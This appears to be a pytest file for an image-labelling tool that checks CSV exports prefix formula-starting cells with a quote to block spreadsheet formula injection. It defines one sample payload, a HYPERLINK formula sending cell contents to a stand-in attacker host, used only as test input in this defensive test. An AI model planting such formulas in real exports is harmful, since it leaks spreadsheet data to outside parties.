"""CSV exports never hand a spreadsheet a formula: cells starting with = + - @ (or tab/CR) are neutralised."""
from __future__ import annotations

import csv
import io
from pathlib import Path

from sqlalchemy import select

from db.config import StoreConfig
from db.exports import FORMULA_STARTS, csv_cell, to_csv
from db.labels import add_label
from db.models import Image
from db.projects import get_or_create_annotator
from db.store import open_store
from engine.cli import main
from tests.fixtures_images import gradient, write_png

EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'


def test_csv_cell_neutralises_formula_starts_and_keeps_numbers() -> None:
    for start in FORMULA_STARTS:
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell("normal") == "normal" and csv_cell(-0.5) == -0.5 and csv_cell(3) == 3
    text = to_csv([{"a": EVIL, "+b": "@x"}], ["a", "+b"])
    assert list(csv.reader(io.StringIO(text))) == [["a", "'+b"], ["'" + EVIL, "'@x"]]


def test_label_and_prediction_exports_have_no_formula_cells(tmp_path: Path, capsys) -> None:
    src = tmp_path / "src"
    for i in range(3):
        write_png(src / "=cmd" / f"a{i}.png", gradient(16, 16, scale=i + 1))
        write_png(src / "normal" / f"b{i}.png", gradient(16, 16, scale=i + 7))
    assert main(["import", "--project", "p", "--task", "multiclass", "--source", str(src)]) == 0
    store = open_store(StoreConfig.from_env())
    with store.sessions.begin() as s:
        image = s.scalars(select(Image)).first()
        add_label(s, image, get_or_create_annotator(s, "@admin"), 0, comment=EVIL)
    store.dispose()
    out = tmp_path / "labels.csv"
    assert main(["export", "--project", "p", "--what", "labels", "--out", str(out)]) == 0
    cells = [cell for row in csv.reader(out.open(newline="")) for cell in row]
    assert "'" + EVIL in cells and "'@admin" in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
